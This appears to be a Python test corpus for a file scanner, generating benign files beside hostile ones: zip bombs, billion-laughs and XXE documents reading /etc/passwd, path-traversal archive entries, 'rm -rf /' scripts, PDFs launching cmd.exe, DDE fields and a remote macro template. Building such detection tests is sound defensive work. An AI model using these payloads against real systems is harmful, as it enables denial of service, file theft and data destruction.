"""Files that mean harm, and plain ones beside them, all made here: name, bytes, what to say of it.

``expects`` is the warnings that must be among those given; empty means the file is a good one.
"""

import gzip
import io
import struct
import zipfile
import zlib
from dataclasses import dataclass

TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">{}</Types>'
WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
RELS = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
REL = '<Relationship Id="r1" Type="http://x/{}" Target="{}"{}/>'
OUT = ' TargetMode="External"'
LAUGHS = '<!DOCTYPE a [<!ENTITY a0 "ha">' + "".join(
    f'<!ENTITY a{n + 1} "{f"&a{n};" * 10}">' for n in range(12)
)
XXE = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'


@dataclass(frozen=True)
class Hostile:
    """One file of the corpus."""

    name: str
    data: bytes
    expects: frozenset[str] = frozenset()
    says: str = ""
    """Words that must be read out of it."""

    def __str__(self) -> str:
        return ascii(self.name)


def package(parts, *, compression=zipfile.ZIP_DEFLATED):
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", compression) as into:
        for name, content in parts.items():
            into.writestr(name, content)
    return made.getvalue()


def docx(body="Møtet om prosjektet", *, xml="", types="", **more):
    document = xml or (
        f'<w:document xmlns:w="{WORD}"><w:body><w:p><w:r><w:t>{body}</w:t></w:r></w:p>'
        "</w:body></w:document>"
    )
    parts = {"[Content_Types].xml": TYPES.format(types), "word/document.xml": document}
    return package(parts | {name.replace("__", "/"): data for name, data in more.items()})


def docx_with(parts, **values):
    base = zipfile.ZipFile(io.BytesIO(docx(**values)))
    return package({name: base.read(name) for name in base.namelist()} | parts)


def xlsx(sheet="", shared="<sst><si><t>Budsjett for bygget</t></si></sst>", **more):
    parts = {
        "[Content_Types].xml": TYPES.format(""),
        "xl/workbook.xml": '<workbook><sheets><sheet name="Ark1" sheetId="1"/></sheets></workbook>',
        "xl/sharedStrings.xml": shared,
        "xl/worksheets/sheet1.xml": f"<worksheet><sheetData>{sheet}</sheetData></worksheet>",
    }
    return package(parts | more)


def pptx(text="Styringsgruppen", **more):
    slide = f'<p:sld xmlns:p="p" xmlns:a="a"><a:p><a:r><a:t>{text}</a:t></a:r></a:p></p:sld>'
    parts = {
        "[Content_Types].xml": TYPES.format(""),
        "ppt/presentation.xml": "<p:presentation xmlns:p='p'/>",
        "ppt/slides/slide1.xml": slide,
    }
    return package(parts | more)


def odt(text="Fylkesmannen svarer"):
    content = f'<o:doc xmlns:o="o" xmlns:text="t"><text:p>{text}</text:p></o:doc>'
    kind = "application/vnd.oasis.opendocument.text"
    return package({"mimetype": kind, "content.xml": content})


_FONT = b"/Resources<</Font<</F1 5 0 R>>>>"


def pdf(*extra, text="Kontrakten er signert", catalog="", pages=None):
    content = f"BT /F1 24 Tf 72 700 Td ({text}) Tj ET".encode("latin-1")
    objects = [
        f"<</Type/Catalog/Pages 2 0 R{catalog}>>".encode(),
        pages or b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R%s>>" % _FONT,
        b"<</Length %d>>stream\n%s\nendstream" % (len(content), content),
        b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
        *extra,
    ]
    made, places = io.BytesIO(), []
    made.write(b"%PDF-1.7\n")
    for number, one in enumerate(objects, 1):
        places.append(made.tell())
        made.write(b"%d 0 obj\n%s\nendobj\n" % (number, one))
    start = made.tell()
    made.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    for place in places:
        made.write(b"%010d 00000 n \n" % place)
    made.write(
        b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, start)
    )
    return made.getvalue()


def png(width=2, height=2):
    def chunk(kind, data):
        whole = kind + data
        return struct.pack(">I", len(data)) + whole + struct.pack(">I", zlib.crc32(whole))

    head = struct.pack(">2I5B", width, height, 8, 2, 0, 0, 0)
    rows = zlib.compress(b"\0" * (min(width, 4000) * 3 + 1) * min(height, 4))
    made = chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    return b"\x89PNG\r\n\x1a\n" + made


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
PROGRAM = b"MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0" + b"\0" * 400 + b"PE\0\0"
ELF = b"\x7fELF\x02\x01\x01" + b"\0" * 200
ZEROS = b"\0" * 60_000_000
_VBA = "_VBA_PROJECT".encode("utf-16-le")


def link_entry():
    made, info = io.BytesIO(), zipfile.ZipInfo("lenke")
    info.external_attr = 0o120777 << 16
    with zipfile.ZipFile(made, "w") as into:
        into.writestr(info, "/etc/passwd")
    return made.getvalue()


def twice(name="a.txt"):
    """Two entries of the same name."""
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as into:
        into.writestr(name, "en")
        into.writestr("b" + name[1:], "to")
    return made.getvalue().replace(b"b" + name[1:].encode(), name.encode())


def overlapping(times=200):
    """Every entry of the directory is the same bytes: small here, large when unpacked."""
    data = package({"a": b"\0" * 3_000_000})
    end = data.rfind(b"PK\x05\x06")
    first = struct.unpack_from("<L", data, end + 16)[0]
    entry = data[first:end]
    listed = entry * times
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, times, times, len(listed), first, 0)
    return data[:first] + listed + tail


def claiming_millions():
    return (
        b"PK\x03\x04"
        + b"\0" * 40
        + struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 0xFFFF, 0xFFFF, 46 * 65_535, 0, 0)
    )


def lying():
    """The directory says ten bytes; there are sixty million."""
    data = bytearray(docx_with({"word/header1.xml": ZEROS}))
    at = data.rfind(b"PK\x01\x02", 0, data.rfind(b"PK\x05\x06"))
    data[at + 24 : at + 28] = struct.pack("<L", 10)
    return bytes(data)


def flagged(bit):
    data = bytearray(package({"a.txt": "hemmelig"}))
    data[6] |= bit
    at = data.find(b"PK\x01\x02")
    data[at + 8] |= bit
    return bytes(data)


def of_compression(number):
    data = bytearray(docx())
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        data[at + 10 : at + 12] = struct.pack("<H", number)
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def bad_sum():
    data = bytearray(docx())
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        data[at + 16 : at + 20] = b"\1\2\3\4"
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def deep(depth=200_000):
    inner = "<w:p>" * depth
    return f'<w:document xmlns:w="{WORD}">{inner}'


def nested_mail(depth=3_000):
    head = "From: a@example.org\nSubject: Dyp\nMIME-Version: 1.0\n"
    return (head + "Content-Type: message/rfc822\n\n" * depth + "slutt").encode()


def mail(attached="tilbud.exe"):
    return (
        "From: a@example.org\nSubject: Tilbud på bru\nMIME-Version: 1.0\n"
        'Content-Type: multipart/mixed; boundary="b"\n\n--b\nContent-Type: text/plain\n\n'
        "Se vedlegget\n--b\nContent-Type: application/octet-stream\n"
        f'Content-Disposition: attachment; filename="{attached}"\n\nMZ\n--b--\n'
    ).encode()


def flate_bomb():
    packed = zlib.compress(b"\0" * 200_000_000, 9)
    return pdf(b"<</Length %d/Filter/FlateDecode>>stream\n%s\nendstream" % (len(packed), packed))


def one(name, data, *expects, says=""):
    return Hostile(name, data, frozenset(expects), says)


GOOD = (
    one("Notat.docx", docx(), says="prosjektet"),
    one("Budsjett.xlsx", xlsx(), says="bygget"),
    one("Foiler.pptx", pptx(), says="Styringsgruppen"),
    one("Brev.odt", odt(), says="Fylkesmannen"),
    one("Kontrakt.pdf", pdf(), says="signert"),
    one("Les meg.txt", "Blåbærsyltetøy".encode(), says="Blåbær"),
    one("Gammel.txt", "Blåbærsyltetøy".encode("cp1252"), says="Blåbær"),
    one("Bred.txt", "Blåbærsyltetøy".encode("utf-16"), says="Blåbær"),
    one("Side.html", b"<html><body><p>Velkommen</p></body></html>", says="Velkommen"),
    one("Post.eml", mail("plan.pdf"), says="vedlegget"),
    one("Tekst.rtf", rb"{\rtf1 Hei p\'e5 deg}", says="Hei på deg"),
    one("Bilde.png", png()),
    one("Arkiv.zip", package({"a/b.txt": "hei"}), says="b.txt"),
    one("Tom.docx", b""),
    one(
        "Merke.svg", b'<svg xmlns="http://www.w3.org/2000/svg"><text>Logo</text></svg>', says="Logo"
    ),
    one("Tall.csv", "navn;sum\nÅse;12".encode(), says="Åse"),
    one("Ukjent.xyz", bytes(range(256)) * 10),
    one("README", b"Bare tekst", says="tekst"),
)
BAD = (
    one("Egentlig.pdf", docx(), "other"),
    one("Egentlig.docx", pdf(), "other"),
    one("Faktura.docx", PROGRAM, "other", "programs"),
    one("Faktura.pdf", ELF, "other", "programs"),
    one("Faktura.pdf.exe", PROGRAM, "programs"),
    one("avtale\u202efdp.exe", PROGRAM, "programs"),
    one("Oppsett.exe. ", PROGRAM, "programs"),
    one("rydd.bat", b"@echo off\r\ndel *.*", "programs"),
    one("snarvei.lnk", b"L\0\0\0\x01\x14\x02\0" + b"\0" * 60, "programs"),
    one("skript.txt", b"#!/bin/sh\nrm -rf /", "other", "programs"),
    one("Side.pdf", b"<html><script>1</script>", "other", "active"),
    one("Ansikt.pdf", b"<html>\n%PDF-1.7" + pdf()[8:], "two_faces"),
    one("Gjemt.pdf", pdf() + package({"a.txt": "x"}), "two_faces"),
    one("Bilde.gif", b"GIF89a/*" + b"\0" * 20 + b"*/=1;<script>alert(1)</script>", "two_faces"),
    one("Bilde.png", png() + package({"ond.js": "x"}), "two_faces"),
    one("Makro.docm", docx(types="macroEnabled", word__vbaProject_bin="x"), "macros"),
    one("Ma.docm", docx_with({"word/vbaProject.bin": "x"}), "macros"),
    one("Makro.docx", docx_with({"word/vbaProject.bin": "x"}), "macros", "other"),
    one("Makro.xlsx", xlsx(**{"xl/vbaProject.bin": "x"}), "macros", "other"),
    one("Makro.pptx", pptx(**{"ppt/vbaProject.bin": "x"}), "macros", "other"),
    one("Fire.xlsx", xlsx(**{"xl/macrosheets/sheet1.xml": "<x/>"}), "macros"),
    one("Gammel.doc", OLE + _VBA, "macros"),
    one("Låst.docx", OLE + "EncryptedPackage".encode("utf-16-le"), "encrypted"),
    one("Bombe.zip", package({"stor": ZEROS}), "bomb"),
    one("Bombe.docx", docx_with({"word/header1.xml": ZEROS}), "bomb"),
    one("Løgn.docx", lying()),
    one("Overlapp.zip", overlapping(), "bomb"),
    one("Millioner.zip", claiming_millions(), "bomb"),
    one("Mange.zip", package({f"{n}": "" for n in range(20_500)}), "bomb"),
    one("Opp.zip", package({"../../etc/cron.d/x": "x"}), "unsafe_names"),
    one("Rot.zip", package({"/etc/passwd": "x"}), "unsafe_names"),
    one("Omvendt.zip", package({"..\\..\\windows\\x": "x"}), "unsafe_names"),
    one("Stasjon.zip", package({"C:/windows/x": "x"}), "unsafe_names"),
    one("Lenke.zip", link_entry(), "unsafe_names"),
    one("Dobbel.zip", twice(), "unsafe_names"),
    one("Program.zip", package({"les/meg.pdf.js": "x"}), "programs"),
    one("Kode.zip", flagged(1), "encrypted"),
    one("Halv.zip", package({"a": "x" * 5000})[:60], "unreadable"),
    one("Halv.docx", docx()[:-30], "unreadable"),
    one("Metode.docx", of_compression(99)),
    one("Sum.docx", bad_sum()),
    one("Latter.docx", docx(xml=LAUGHS + "]><a>&a12;</a>"), "doctype"),
    one("Ute.docx", docx(xml=XXE + "<a>&x;</a>"), "doctype"),
    one("Dyp.docx", docx(xml=deep()), "bomb"),
    one("Knekt.docx", docx(xml="<w:document><w:p>")),
    one(
        "Mal.docx",
        docx_with(
            {
                "word/_rels/settings.xml.rels": RELS.format(
                    REL.format("attachedTemplate", "http://example.org/ond.dotm", OUT)
                )
            }
        ),
        "fetches",
    ),
    one("Dde.docx", docx(body="DDEAUTO c:\\\\windows\\\\cmd.exe"), "fetches"),
    one("Objekt.docx", docx_with({"word/embeddings/oleObject1.bin": OLE}), "embedded"),
    one("Kontroll.docx", docx_with({"word/activeX/activeX1.bin": OLE}), "embedded"),
    one("Glissen.xlsx", xlsx('<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>')),
    one("Lang.xlsx", xlsx('<c t="inlineStr"><is><t>ord ord </t></is></c>' * 300_000), "bomb"),
    one("Latter.xlsx", xlsx(shared=LAUGHS + "]><sst><si><t>&a12;</t></si></sst>"), "doctype"),
    one("Hul.xlsx", package({"[Content_Types].xml": "", "xl/workbook.xml": ""})),
    one("Skript.pdf", pdf(catalog="/OpenAction<</S/JavaScript/JS(app.alert(1))>>"), "active"),
    one("Start.pdf", pdf(catalog="/OpenAction<</S/Launch/F(cmd.exe)>>"), "active"),
    one("Halv.pdf", pdf()[:200]),
    one("Ring.pdf", pdf(pages=b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 99999999>>")),
    one("Tung.pdf", flate_bomb()),
    one("Bare hode.pdf", b"%PDF-1.7\n", "unreadable"),
    one("Ond.svg", b"<svg onload='alert(1)'><script>1</script></svg>", "active"),
    one(
        "Latter.svg", ("<?xml version='1.0'?>" + LAUGHS + "]><svg>&a12;</svg>").encode(), "doctype"
    ),
    one("Latter.xml", ("<?xml version='1.0'?>" + LAUGHS + "]><a>&a12;</a>").encode(), "doctype"),
    one("Ute.xml", ("<?xml version='1.0'?>" + XXE + "<a>&x;</a>").encode(), "doctype"),
    one("Ond.html", b"<html><a href='javascript:1'>x</a>", "active"),
    one("Post.eml", mail(), "programs"),
    one("Dyp.eml", nested_mail()),
    one("Objekt.rtf", rb"{\rtf1{\object\objupdate{\*\objdata 0105}}}", "embedded"),
    one("Linje.txt", b"a" * 8_000_000),
    one("Nuller.txt", b"a\0b" * 1000, "other"),
    one("Utf.txt", b"\xff\xfe\xff\xfe\xd8" * 1000),
    one("Pakket.txt", gzip.compress(ZEROS), "other"),
    one("Pakket.gz", gzip.compress(ZEROS)),
    one("Diger.png", png(60_000, 60_000)),
    one("Bilde.jpg", png(), "other"),
)
ALL = (*GOOD, *BAD)
